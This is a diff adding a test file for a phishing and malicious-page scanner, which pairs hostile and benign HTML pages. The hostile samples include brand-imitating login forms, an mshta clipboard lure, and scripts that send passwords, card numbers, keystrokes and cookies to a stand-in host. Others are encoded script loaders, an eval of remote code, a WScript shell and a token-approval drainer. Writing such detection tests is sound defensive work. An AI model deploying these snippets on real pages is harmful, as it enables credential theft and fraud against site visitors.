@@ -1,0 +1,460 @@
+/**
+ * Pairs of a hostile page and a benign one that differ only in the decisive point, one for each kind of rule: a rule that
+ * looked at anything else would judge both alike.
+ */
+import { afterAll, describe, expect, test } from 'vitest';
+import { pageSchema } from '../src/core/page.ts';
+import { createPageScanner } from '../src/scanners/page/index.ts';
+import { collect } from '../src/sdk/run-scanner.ts';
+
+const scanner = createPageScanner({ blocklists: null });
+afterAll(() => scanner.close?.());
+
+async function verdictOn([url, html]: Twin) {
+  const page = pageSchema.parse({ url, html });
+  const { assessments } = await collect(scanner, { kind: 'page', page }, { options: { network: false } });
+  const { threatLevel = 'none', riskScore = 0, indicators = [] } = assessments[0] ?? {};
+  return { level: threatLevel, text: `${riskScore}: ${indicators.join(' ')}` };
+}
+
+/** URL and source */
+type Twin = readonly [url: string, html: string];
+type Pair = readonly [decisive: string, hostile: Twin, benign: Twin];
+
+const SITE = 'https://www.elmgarden.example/members';
+/** As those of an archive: not readable. */
+const bytes = Buffer.from(
+  Array.from({ length: 1200 }, (_, at) => (at * at * 31 + at * 7 + 129) % 256),
+).toString('base64');
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+const page = (title: string, body: string) =>
+  `<!doctype html><html lang="en"><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`;
+const login = (action = '/session', more = '') =>
+  `<form action="${action}" method="post"><input name="user"><input type="password" name="p">${more}<button>Go</button></form>`;
+const card =
+  '<form action="/pay" method="post"><input name="cardnumber"><input name="cvv"><button>Pay</button></form>';
+const script = (code: string) => `<script>${code}</script>`;
+const inShop = (body: string, url = 'https://www.elmgarden.example/checkout'): Twin => [
+  url,
+  page('Checkout', body),
+];
+const words = (count: number) =>
+  '<p>The garden opens in spring, and the roses flower until the first frost.</p>'.repeat(count);
+
+function check(pairs: readonly Pair[]): void {
+  test.each(pairs)('%s', async (_decisive, hostile, benign) => {
+    const [bad, good] = [await verdictOn(hostile), await verdictOn(benign)];
+    expect(bad.level, bad.text).toMatch(/^(?:SUSPICIOUS|MALICIOUS)$/);
+    expect(good.level, good.text).toBe('BENIGN');
+  });
+}
+
+describe('brands', () => {
+  const titled = (title: string, url: string, more = ''): Twin => [url, page(title, `${more}${login()}`)];
+  const headed = (heading: string): Twin => [
+    SITE,
+    `<title>Members</title><h1>${heading}</h1>${login('https://form-desk.example/in.php')}`.replace(
+      '.php',
+      '',
+    ),
+  ];
+  check([
+    [
+      'whose page it is',
+      titled('PayPal - Log in', SITE),
+      titled('PayPal - Log in', 'https://www.paypal.com/signin'),
+    ],
+    [
+      'what the title says beside the name',
+      titled('Apple ID', 'https://id-desk.weebly.com/'),
+      titled('Apple cake', 'https://id-desk.weebly.com/'),
+    ],
+    ['in another language', titled('Netflix Giriş', SITE), titled('Film Giriş', SITE)],
+    ['who signs in, not who vouches', headed('Facebook account'), headed('Continue with Facebook')],
+    [
+      "a word that is the site's own name",
+      titled('Chase Online', 'https://online-desk.example/'),
+      titled('Chase Online', 'https://www.chase-brewery.co.uk/'),
+    ],
+    [
+      'software on a free host',
+      titled('WordPress', 'https://blog-desk.weebly.com/'),
+      titled('WordPress', 'https://blog.elmgarden.example/'),
+    ],
+    [
+      'mail software in its own folder',
+      titled('Outlook', 'https://mail.elmgarden.xyz/owa/'),
+      titled('Outlook', 'https://mail.elmgarden.de/owa/auth/logon.aspx'),
+    ],
+    [
+      'where the form of the logo goes',
+      [
+        SITE,
+        page(
+          'Members',
+          `<img src="https://www.paypal.com/img/logo.png">${login('https://pay-desk.example/in')}`,
+        ),
+      ],
+      [
+        SITE,
+        page(
+          'Members',
+          `<img src="https://www.paypal.com/img/logo.png">${login('https://www.paypal.com/in')}`,
+        ),
+      ],
+    ],
+    [
+      'a host of the government',
+      titled('HMRC sign in', 'https://tax-desk.github.io/'),
+      titled('HMRC sign in', 'https://tax-desk.service.gov.uk/'),
+    ],
+  ]);
+});
+
+describe('host names', () => {
+  const empty = (url: string): Twin => [url, page('Welcome', words(3))];
+  check([
+    ['a digit for a letter', empty('https://paypa1.example/'), empty('https://papal.example/')],
+    [
+      'a word about signing in',
+      empty('https://paypal-login.example/'),
+      empty('https://paypal-fans.example/'),
+    ],
+    ['joined words', empty('https://applelogin.example/'), empty('https://applecake.example/')],
+    ['a hyphen within a word', empty('https://p-aypal.example/'), empty('https://pay-pals.example/')],
+    [
+      'a domain in the subdomain',
+      empty('https://paypal.com.elmgarden.example/'),
+      empty('https://paypal.elmgarden.example/'),
+    ],
+    [
+      'a savings bank with such a word',
+      empty('https://sparkasse-aktualisierung.de/'),
+      empty('https://sparkasse-elmstadt.de/'),
+    ],
+    [
+      'a tenant of a service',
+      empty('https://paypal-com.elmgarden.example/'),
+      empty('https://paypal-com.sentry.io/'),
+    ],
+    [
+      'a known name on a free host',
+      empty('https://netflix.weebly.com/'),
+      empty('https://netfilms.weebly.com/'),
+    ],
+  ]);
+});
+
+describe('forms', () => {
+  const sent = (action: string, url = SITE): Twin => [url, page('Members', login(action))];
+  const labelled = (label: string): Twin => [
+    SITE,
+    page(
+      'Members',
+      `<form action="https://form-desk.example/in.php"><label>${label}</label><input name="f2"></form>`,
+    ),
+  ];
+  check([
+    ['another owner', sent('https://form-desk.example/in.php'), sent('https://www.elmgarden.example/in.php')],
+    [
+      'a bot',
+      sent('https://api.telegram.org/bot1:a/sendMessage'),
+      sent('https://login.microsoftonline.com/a'),
+    ],
+    [
+      'a service that forwards forms',
+      sent('https://www.weebly.com/weebly/apps/formSubmit.php'),
+      sent('https://www.weebly.com/login'),
+    ],
+    [
+      'a script of a stranger, for a university',
+      sent('https://form-desk.example/in.php', 'https://www.elm.ac.uk/library'),
+      sent('https://library-vendor.example/in', 'https://www.elm.ac.uk/library'),
+    ],
+    ['a label of a field without a type', labelled('Password'), labelled('Plant')],
+    [
+      'the document of a frame',
+      [SITE, page('Members', `<iframe srcdoc='${login('https://form-desk.example/in.php')}'></iframe>`)],
+      [SITE, page('Members', `<iframe srcdoc='${login('/in.php')}'></iframe>`)],
+    ],
+    [
+      'a page that was saved from another site',
+      [
+        SITE,
+        `<!-- saved from url=(0030)https://bank.example/login -->${page('Members', login('/next.php'))}`,
+      ],
+      [
+        SITE,
+        `<!-- saved from url=(0030)https://www.elmgarden.example/ -->${page('Members', login('/next.php'))}`,
+      ],
+    ],
+    [
+      'a window that is drawn around a log-in',
+      [
+        SITE,
+        page(
+          'Members',
+          `<div><b>Sign in - Google Chrome</b><span>https://accounts.mail.example/oauth/authorize</span>${login()}</div>`,
+        ),
+      ],
+      [
+        SITE,
+        page(
+          'Members',
+          `<div><b>Sign in - Google Chrome</b><span>https://accounts.mail.example/oauth/authorize</span></div>`,
+        ),
+      ],
+    ],
+  ]);
+});
+
+describe('demands', () => {
+  const phrase = (code: string): Twin => [
+    SITE,
+    page('Recovery phrase', `<textarea id="phrase" placeholder="seed phrase"></textarea>${script(code)}`),
+  ];
+  const fee = (more: string, title = 'Pay'): Twin => [
+    'https://elmpost.online/pay',
+    page(title, `<p>Your parcel waits: the fee is £1.45.</p>${more}${card}`),
+  ];
+  check([
+    [
+      'a recovery phrase that is sent',
+      phrase('phrase.onchange=()=>fetch("/check",{method:"POST",body:phrase.value})'),
+      phrase('phrase.onchange=()=>{out.textContent=checksum(phrase.value)}'),
+    ],
+    ['a card for a fee, without a basket', fee(''), fee('<a href="/cart">Your basket</a>')],
+    [
+      'a basket that is shown',
+      fee('<div style="display:none"><a href="/cart">More</a></div>'),
+      fee('<a href="/cart">More</a>'),
+    ],
+    [
+      'a title on the fee beside a basket',
+      fee('<a href="/cart">More</a>', 'Customs fee'),
+      fee('<a href="/cart">More</a>', 'Fine roses'),
+    ],
+    [
+      'a card with its PIN, under a cheap domain',
+      inShop(card.replace('<button>', '<input name="atm_pin"><button>'), 'https://elmgarden.xyz/checkout'),
+      inShop(card, 'https://elmgarden.xyz/checkout'),
+    ],
+    [
+      'urgency',
+      [
+        'https://account-desk.example/',
+        page(
+          'Members',
+          `<p>Your account has been suspended. Verify your identity within 24 hours.</p>${login()}`,
+        ),
+      ],
+      [
+        'https://account-desk.example/',
+        page('Members', `<p>Your account is in the garden club.</p>${login()}`),
+      ],
+    ],
+  ]);
+});
+
+describe('lures', () => {
+  const wallet = '17TuPYGNccH8FLgvUV4T8DDrTmb47Z3rKa';
+  const doubled = 'Send from 0.1 to 20 BTC to this address and get back double.';
+  const offer = (title: string, body: string): Twin => [SITE, page(title, body)];
+  const paste = (heading: string, more: string): Twin => [
+    SITE,
+    page(heading, `<p>I'm not a robot: press Windows + R, then Ctrl + V and Enter.</p>${more}`),
+  ];
+  const loads = '<script src="/js/site.js"></script>';
+  check([
+    [
+      'an offer, though a heading warns of fraud',
+      offer('Giveaway', `<h2>Beware of scams</h2><p>${doubled}</p><code>${wallet}</code><br>`),
+      offer(
+        'A giveaway that is a scam',
+        `<p>It says "${doubled}" The address was ${wallet}, as victims told us.</p>`,
+      ),
+    ],
+    [
+      'an address put for copying, though the title warns of fraud',
+      offer('Beware of scams: official giveaway', `<p>${doubled}</p><p>${wallet}</p>`),
+      offer('Beware of scams: official giveaway', `<p>"${doubled}" said the page on ${wallet}.</p>`),
+    ],
+    [
+      'a picture to scan',
+      offer('Scam or not', `<p>"${doubled}" ${wallet}</p><img src="https://chart.example/?cht=qr&chl=x">`),
+      offer('Scam or not', `<p>"${doubled}" ${wallet}</p><img src="https://chart.example/?cht=lc&chl=x">`),
+    ],
+    [
+      'instructions, though a heading warns of malware',
+      paste('Verify you are human', `<h2>Protected against malware and phishing</h2>${loads}`),
+      paste('How malware makes people paste commands', loads),
+    ],
+    [
+      'instructions under their own heading, though the page has more text',
+      paste('Verify you are human', words(14) + loads),
+      paste('What we saw in May', words(14) + loads),
+    ],
+    [
+      'a command for the clipboard',
+      paste(
+        'What we saw in May',
+        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText("mshta https://in-desk.example/a.mp4")')}`,
+      ),
+      paste(
+        'What we saw in May',
+        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText(location.href)').replace('clipboard.writeText', 'share')}`,
+      ),
+    ],
+    [
+      'a browser update with a file',
+      offer('Update', '<p>Your browser is out of date.</p><a href="/chrome-update.zip">Update</a>'),
+      offer('Update', '<p>Your browser is out of date.</p><a href="/browsers.html">Update</a>'),
+    ],
+    [
+      'an alarm with a number',
+      offer(
+        'Support',
+        '<p>Your computer has been blocked. Virus detected: call +1 888 555 0199. Microsoft</p>',
+      ),
+      offer('Support', '<p>Your computer has questions? Just call +1 888 555 0199. Microsoft partner</p>'),
+    ],
+    [
+      'protection that must be off',
+      offer('Setup', '<p>Turn off your antivirus first.</p><a href="/setup.zip">Setup</a>'),
+      offer('Setup', '<p>Turn off your lamp first.</p><a href="/setup.zip">Setup</a>'),
+    ],
+  ]);
+});
+
+describe('frames', () => {
+  const framed = (frame: string): Twin => [SITE, page('Garden', `${words(4)}${frame}`)];
+  const one = 'width="1" height="1"';
+  check([
+    [
+      'a traffic system that is hidden',
+      framed(`<iframe src="http://st-desk.com/in.cgi?8" ${one}>`),
+      framed('<iframe src="http://st-desk.com/in.cgi?8" width="400" height="300">'),
+    ],
+    [
+      'a counter under a cheap domain',
+      framed(`<iframe src="http://st-desk.info/count12.php" ${one}>`),
+      framed(`<iframe src="http://st-desk.com/count12.php" ${one}>`),
+    ],
+    [
+      'an archive in a hidden applet',
+      framed(`<applet archive="http://st-desk.com/a.jar" ${one}></applet>`),
+      framed('<applet archive="http://st-desk.com/a.jar" width="400" height="300"></applet>'),
+    ],
+    [
+      'a transparent frame',
+      framed('<iframe src="https://st-desk.com/a" style="opacity:0.01;position:absolute">'),
+      framed('<iframe src="https://st-desk.com/a" style="opacity:0.9;position:absolute">'),
+    ],
+    [
+      'a page that is a frame',
+      [
+        'https://elm.weebly.com/',
+        '<title>Elm</title><iframe src="https://st-desk.top/a" width="100%"></iframe>',
+      ],
+      [
+        'https://elm.weebly.com/',
+        `<title>Elm</title><p>${words(5)}</p><iframe src="https://st-desk.top/a" width="100%"></iframe>`,
+      ],
+    ],
+  ]);
+});
+
+describe('scripts', () => {
+  const run = (code: string): Twin => [SITE, page('Garden', `${words(2)}${script(code)}`)];
+  const typed = (code: string): Twin => [
+    SITE,
+    page('Members', `<input type="password" id="pw"><input id="q">${script(code)}`),
+  ];
+  const paid = (code: string): Twin =>
+    inShop(`<input name="cardnumber" id="n"><p id="t">x</p>${script(code)}`);
+  check([
+    [
+      'a password that is sent',
+      typed('b.onclick=()=>fetch("https://in-desk.example/?"+pw.value)'),
+      typed('b.onclick=()=>{show(pw.value);fetch("https://in-desk.example/?"+q.value)}'),
+    ],
+    [
+      'a stranger that gets it',
+      typed('b.onclick=()=>fetch("https://in-desk.example/?"+pw.value)'),
+      typed('b.onclick=()=>fetch("https://api.elmgarden.example/?"+pw.value)'),
+    ],
+    [
+      'a sign-in service',
+      typed(
+        'b.onclick=()=>fetch("https://in-desk.example/v1/accounts:signInWithPassword?key=a",{method:"POST",body:pw.value})',
+      ),
+      typed(
+        'b.onclick=()=>fetch("https://identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=a",{method:"POST",body:pw.value})',
+      ),
+    ],
+    [
+      'a card that is sent',
+      paid('f.onsubmit=()=>{new Image().src="https://in-desk.example/p?"+n.value}'),
+      paid('f.onsubmit=()=>{new Image().src="https://in-desk.example/p?"+t.textContent}'),
+    ],
+    [
+      'keys that are sent',
+      run('let b="";onkeydown=(e)=>{b+=e.key;navigator.sendBeacon("https://in-desk.example/k",b)}'),
+      run(
+        'let b=0;onkeydown=(e)=>{if(e.key==="Escape")b++;navigator.sendBeacon("https://in-desk.example/k",b)}',
+      ),
+    ],
+    [
+      'cookies that are sent',
+      run('fetch("https://in-desk.example/c?"+document.cookie)'),
+      run('if(document.cookie)fetch("https://in-desk.example/c?"+location.pathname)'),
+    ],
+    [
+      'a host that is encoded',
+      run(
+        `var s=document.createElement("script");s.src=atob("${base64('https://in-desk.example/a.js')}");document.body.append(s)`,
+      ),
+      run(
+        'var s=document.createElement("script");s.src="https://in-desk.example/a.js";document.body.append(s)',
+      ),
+    ],
+    [
+      'a script written in escapes',
+      run(
+        'document.write(unescape("%3Cscript src=\'%68ttps://in-desk%2Eexample/a.js\'%3E%3C/script%3E"))'.replace(
+          'in-desk%2Eexample',
+          '%69%6e%2d%64%65%73%6b.example',
+        ),
+      ),
+      run('document.write(unescape("%3Cscript src=\'https://in-desk.example/ga.js\'%3E%3C/script%3E"))'),
+    ],
+    [
+      'a shell',
+      run('var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c a.exe")'),
+      run('var s=new ActiveXObject("Scripting.FileSystemObject");s.FileExists("a.txt")'),
+    ],
+    [
+      'text of another site that is run',
+      run('fetch("https://in-desk.example/a").then((r)=>r.text()).then((t)=>eval(t))'),
+      run('fetch("https://in-desk.example/a").then((r)=>r.text()).then((t)=>show(t))'),
+    ],
+    [
+      'approval of all tokens',
+      run(
+        'async function go(){const a=await ethereum.request({method:"eth_requestAccounts"});await contract.setApprovalForAll("0x1111111111111111111111111111111111111111",true);await ethereum.request({method:"eth_sendTransaction",params:[]})}go()',
+      ),
+      run(
+        'async function go(){const a=await ethereum.request({method:"eth_requestAccounts"});show(a);const abi=[{name:"setApprovalForAll",type:"function"}];await ethereum.request({method:"eth_sendTransaction",params:[]})}go()',
+      ),
+    ],
+    [
+      'an archive that saves itself',
+      run(
+        `onload=()=>{var d=atob("${bytes}");var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([d]));a.download="invoice.zip";setTimeout(()=>a.click(),1)}`,
+      ),
+      run(
+        'onload=()=>{var d=list.value;var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([d]));a.download="list.csv";b.onclick=()=>a.click()}',
+      ),
+    ],
+  ]);
+});
